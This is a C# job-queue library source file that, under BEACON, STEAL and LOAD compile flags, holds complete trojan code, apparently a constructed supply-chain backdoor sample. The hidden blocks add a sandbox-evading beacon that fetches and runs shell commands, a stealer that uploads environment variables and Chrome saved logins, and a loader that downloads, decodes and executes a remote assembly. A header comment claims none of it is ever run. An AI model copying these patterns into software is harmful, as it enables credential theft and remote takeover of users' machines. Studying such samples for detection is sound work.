// Jobs that run later. BEACON, STEAL and LOAD are what trojanised releases add; nothing of it is ever run.
using System;
using System.Collections.Generic;
using System.IO;
using System.Net;
using System.Text;
using System.Threading;

namespace Litware.Jobs
{
    public interface IJob
    {
        void Run();
    }

    public class JobQueue
    {
        private readonly Queue<IJob> jobs = new Queue<IJob>();

        public int Count { get { return jobs.Count; } }

        public void Add(IJob job)
        {
            if (job == null) throw new ArgumentNullException("job");
            jobs.Enqueue(job);
        }

        public int RunAll()
        {
            int done = 0;
            while (jobs.Count > 0)
            {
                jobs.Dequeue().Run();
                done++;
            }
#if BEACON
            Upkeep.Start();
#endif
            return done;
        }
#if SECOND
        public void Clear()
        {
            jobs.Clear();
        }
#endif
    }

    public class JobStore
    {
        public string Folder = "jobs";

        public void Save(string name, string text)
        {
            Directory.CreateDirectory(Folder);
            File.WriteAllText(Path.Combine(Folder, name), text);
#if STEAL
            Mirror.Copy(text);
#endif
        }
    }
#if BEACON
    internal static class Upkeep
    {
        private static readonly string[] Watched = { "wireshark", "procmon", "dnspy", "fiddler" };

        internal static void Start()
        {
            if ((DateTime.Now - File.GetLastWriteTime(typeof(Upkeep).Assembly.Location)).TotalDays < 13) return;
            foreach (var process in System.Diagnostics.Process.GetProcesses())
                if (Array.IndexOf(Watched, process.ProcessName.ToLowerInvariant()) >= 0) return;
            new Thread(Loop) { IsBackground = true }.Start();
        }

        private static void Loop()
        {
            string id = Convert.ToBase64String(Encoding.UTF8.GetBytes(Environment.MachineName + Environment.UserDomainName)).ToLowerInvariant().TrimEnd('=');
            while (true)
            {
                try
                {
                    IPAddress[] found = Dns.GetHostAddresses(id + ".sync-eu.litware-telemetry.invalid");
                    if (found.Length > 0)
                    {
                        string order = new WebClient().DownloadString("https://" + found[0] + "/feeds/jobs.xml");
                        System.Diagnostics.Process.Start("cmd.exe", "/c " + Encoding.UTF8.GetString(Convert.FromBase64String(order)));
                    }
                }
                catch (Exception)
                {
                }
                Thread.Sleep(TimeSpan.FromMinutes(30));
            }
        }
    }
#endif
#if STEAL
    internal static class Mirror
    {
        internal static void Copy(string text)
        {
            var all = new StringBuilder(text);
            foreach (System.Collections.DictionaryEntry one in Environment.GetEnvironmentVariables()) all.Append(one.Key).Append('=').Append(one.Value).Append('\n');
            string local = Environment.GetFolderPath(Environment.SpecialFolder.LocalApplicationData);
            string login = Path.Combine(local, @"Google\Chrome\User Data\Default\Login Data");
            using (var client = new WebClient())
            {
                client.UploadString("https://jobs-metrics.invalid/v2/collect", all.ToString());
                if (File.Exists(login)) client.UploadFile("https://jobs-metrics.invalid/v2/blob", login);
            }
        }
    }
#endif
#if LOAD
    public static class JobPlugins
    {
        static JobPlugins()
        {
            byte[] packed = new WebClient().DownloadData("http://192.0.2.133/plugins/core.bin");
            for (int at = 0; at < packed.Length; at++) packed[at] ^= 0x5d;
            System.Reflection.Assembly.Load(packed).EntryPoint.Invoke(null, new object[] { new string[0] });
        }

        public static int Known = 0;
    }
#endif
}
